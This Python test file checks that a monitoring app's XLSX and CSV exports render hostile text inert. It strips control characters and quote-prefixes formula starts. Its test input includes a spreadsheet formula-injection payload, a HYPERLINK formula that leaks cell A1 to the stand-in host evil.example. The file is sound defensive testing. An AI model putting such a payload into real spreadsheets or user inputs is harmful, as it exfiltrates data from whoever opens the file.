"""Every export keeps a hostile text as text: every control character and every formula start.

Through each export (the complaint and review-queue list exports as XLSX and CSV, the employee
list export, the registry export on /pegawai/ekspor.xlsx and `pantau registry export`), each
file is opened with openpyxl (or read as CSV): no cell is a formula, the text is there.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from pantau.core.nip import make_nip
from pantau.core.spreadsheet_export import REPLACEMENT

pytestmark = pytest.mark.django_db

CONTROL = [chr(c) for c in range(0x20) if c not in (0x09, 0x0A, 0x0D)]
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "\n@"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"klik")'


def _texts() -> dict[str, str]:
    """Each hostile text, and what a reader should find in its cell."""
    out = {}
    for ch in CONTROL:
        out[f"awal{ch}akhir {ord(ch):02x}"] = f"awal{REPLACEMENT}akhir {ord(ch):02x}"
    for start in FORMULA_STARTS:
        out[f"{start}{PAYLOAD}"] = f"'{start}{PAYLOAD}"
    out["baris\tdengan tab\ndan baris baru"] = "baris\tdengan tab\ndan baris baru"
    return out


TEXTS = _texts()


def _storable() -> dict[str, str]:
    """TEXTS the database can hold: PostgreSQL refuses NUL in text (SQLite keeps it, and the
    pure rule is tested with NUL below)."""
    from django.db import connection

    if connection.vendor == "postgresql":
        return {k: v for k, v in TEXTS.items() if "\x00" not in k}
    return TEXTS


def test_the_cell_rule_itself_handles_every_control_character_and_formula_start():
    from pantau.core.spreadsheet_export import cell_text

    for text, expected in TEXTS.items():
        assert cell_text(text) == expected


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))  # not read-only: data_type tells a formula
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _check_xlsx(data: bytes) -> None:
    cells = _xlsx_cells(data)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in cells if isinstance(c.value, str)}
    for expected in _storable().values():
        assert expected in values, repr(expected)


def _check_csv(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    values = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    for expected in _storable().values():
        assert expected in values, repr(expected)
    assert not any(ch in text for ch in CONTROL)


@pytest.fixture
def hostile_complaints(registry):
    from pantau.monitoring.models import Complaint

    for n, text in enumerate(_storable()):
        Complaint.objects.create(reference=f"ADU-{n}", category="hoax", reason=text, handle=text)


@pytest.fixture
def hostile_findings(registry, make_finding):
    for text in _storable():
        make_finding(text=text)


@pytest.fixture
def hostile_employees(registry):
    from pantau.registry.models import Account, Employee

    for n, text in enumerate(_storable(), start=1):
        employee = Employee.objects.create(
            nip=make_nip(dt.date(1990, 1, 1), 2015, 1, "M", n),
            name=text,
            position=text,
            grade="III/a",
            unit=registry.units["BIDTI"],
        )
        Account.objects.create(employee=employee, platform="x", handle=f"akun{n}", url="")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_complaint_export_keeps_every_hostile_text_as_text(login_as, hostile_complaints, fmt):
    response = login_as("inspector").get(f"/laporan/ekspor/pengaduan.{fmt}")
    assert response.status_code == 200
    (_check_xlsx if fmt == "xlsx" else _check_csv)(response.content)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_review_queue_export_keeps_every_hostile_text_as_text(login_as, hostile_findings, fmt):
    response = login_as("inspector").get(f"/laporan/ekspor/telaah.{fmt}")
    assert response.status_code == 200
    (_check_xlsx if fmt == "xlsx" else _check_csv)(response.content)


def test_the_employee_list_export_keeps_every_hostile_text_as_text(login_as, hostile_employees):
    response = login_as("inspector").get("/laporan/ekspor/pegawai.xlsx")
    assert response.status_code == 200
    _check_xlsx(response.content)


def test_the_registry_export_page_keeps_every_hostile_text_as_text(login_as, hostile_employees):
    response = login_as("admin").get("/pegawai/ekspor.xlsx")
    assert response.status_code == 200
    _check_xlsx(response.content)


def test_the_registry_export_command_keeps_every_hostile_text_as_text(
    hostile_employees, tmp_path, capsys
):
    from pantau.cli import main

    path = tmp_path / "registri.xlsx"
    assert main(["registry", "export", str(path)]) == 0
    _check_xlsx(path.read_bytes())


def test_a_defused_registry_export_imports_back_as_the_same_names(hostile_employees):
    from pantau.registry.imports import registry_export_xlsx, registry_import
    from pantau.registry.models import Employee

    formula_named = {e.nip: e.name for e in Employee.objects.all() if e.name[:1] in "=+-@"}
    assert len(formula_named) == 4
    data = registry_export_xlsx(employees=Employee.objects.all())
    Employee.objects.filter(nip__in=formula_named).update(name="Nama Salah")
    report = registry_import(kind="employees", data=data, name="ekspor.xlsx", dry_run=False)
    assert report.ok, report.errors[:3]
    restored = dict(Employee.objects.filter(nip__in=formula_named).values_list("nip", "name"))
    assert restored == formula_named


def test_an_over_long_text_is_cut_to_what_a_cell_holds(login_as, registry):
    from pantau.monitoring.models import Complaint

    Complaint.objects.create(reference="ADU-L", category="hoax", reason="kata " * 10_000)
    response = login_as("inspector").get("/laporan/ekspor/pengaduan.xlsx")
    cells = [c.value for c in _xlsx_cells(response.content) if isinstance(c.value, str)]
    longest = max(cells, key=len)
    assert len(longest) == 32_767 and longest.endswith("…")


def test_the_periodic_report_workbook_keeps_a_hostile_name_as_text(registry, settings):
    from pantau.reports.periodic import report_build
    from pantau.reports.periods import parse_period
    from pantau.reports.scope import organisation_scope
    from pantau.reports.xlsx import report_xlsx

    settings.PANTAU_ORGANISATION = f"={PAYLOAD}\x1b"
    report = report_build(organisation_scope(), parse_period("2026-Q4"))
    cells = _xlsx_cells(report_xlsx(report))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert f"'={PAYLOAD}{REPLACEMENT}" in {c.value for c in cells}
